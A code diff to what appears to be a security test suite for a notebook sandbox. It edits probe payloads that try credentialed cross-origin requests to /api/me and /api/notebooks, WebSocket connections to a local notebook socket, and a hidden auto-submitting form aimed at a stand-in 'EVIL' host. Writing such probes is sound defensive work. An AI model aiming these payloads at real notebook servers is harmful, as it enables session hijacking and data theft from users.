@@ -41,7 +41,8 @@ export const FRAMES: readonly FramePayload[] = [
     source: script(
       140,
       `const ws = PAGE.replace('http', 'ws') + '/api/notebooks/TARGET/socket';
-       const knock = (url) => new Promise((end) => { const s = new WebSocket(url); s.onopen = () => end('open'); s.onerror = () => end('refused') });
+       const knock = (url) => new Promise((end) => { let s; try { s = new WebSocket(url) } catch { end('refused'); return } s.onopen = () => end('open'); s.onclose = s.onerror = () => end('refused');
+         setTimeout(() => end(s.readyState === 1 ? 'open' : 'refused'), 2000) });
        const post = (url, body) => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'content-type': 'text/plain'}, body}).catch(() => 0);
        const read = (url) => fetch(url, {credentials: 'include'}).then(() => 'read', () => 'refused');
        Promise.all([knock(ws), knock(ws.replace('127.0.0.1', 'localhost')), knock(location.origin.replace('http', 'ws') + '/api/notebooks/TARGET/socket'), read(PAGE + '/api/me'), read(PAGE + '/api/notebooks'),
@@ -54,7 +55,7 @@ export const FRAMES: readonly FramePayload[] = [
     rule: "A3 form",
     shows: 180,
     showsInChromium: LEFT,
-    source: html(`${box(180)}<form action='EVIL/nav/form' method=get></form><script>document.querySelector('form').submit()</script>`),
+    source: html(`${box(180)}<form hidden action='EVIL/nav/form' method=get></form><script>try { document.querySelector('form').submit() } catch {}</script>`),
   },
   {
     rule: "A3 refresh",
